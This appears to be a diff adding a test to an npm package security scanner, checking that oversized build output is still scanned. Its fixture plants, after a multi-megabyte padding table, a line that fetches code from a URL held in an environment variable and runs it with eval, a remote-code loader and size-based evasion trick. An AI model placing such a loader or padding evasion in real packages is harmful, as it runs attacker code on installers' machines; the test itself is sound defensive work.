@@ -1021,6 +1021,25 @@ class NpmScanTest {
     }
 
     @Test
+    void largeBuildOutputIsScannedWholeAndPastTheLimitIsNotExplainedByItsName() throws Exception {
+        // red team round 8: a plain eval(d) padded past 8 MiB with a data table, in a gitignored dist/ named by main
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.8.0",
+                        ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist/\"]"), ".gitignore", "node_modules\n/dist\n",
+                "index.js", "module.exports = require('./dist/big');\n", "cli.js", "require('./index');\n");
+        String table = "const t = [" + "1,".repeat(5_000_000) + "0];\n";
+        String huge = "const u = [" + "2,".repeat(34_000_000) + "0];\n";
+        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree,
+                "dist/big.js", table + "require('https').get(process.env.U, r => r.on('data', d => eval(String(d))));\n",
+                "dist/huge.js", huge));
+        FileDivergence big = row(a, "package/dist/big.js");
+        assertEquals(FileStatus.BUILD_OUTPUT, big.status(), big.toString());
+        assertTrue(big.highRisk(), "scanned past 8 MiB: " + big);
+        FileDivergence past = row(a, "package/dist/huge.js");
+        assertEquals(FileStatus.PHANTOM, past.status(), past.toString());
+        assertTrue(past.detail().orElseThrow().contains("too large to scan"), past.toString());
+    }
+
+    @Test
     void buildOutputIsContentScannedAndCountedAsUnverified() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0",
                         ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist/\"]"), ".gitignore", "node_modules\n/dist\n",
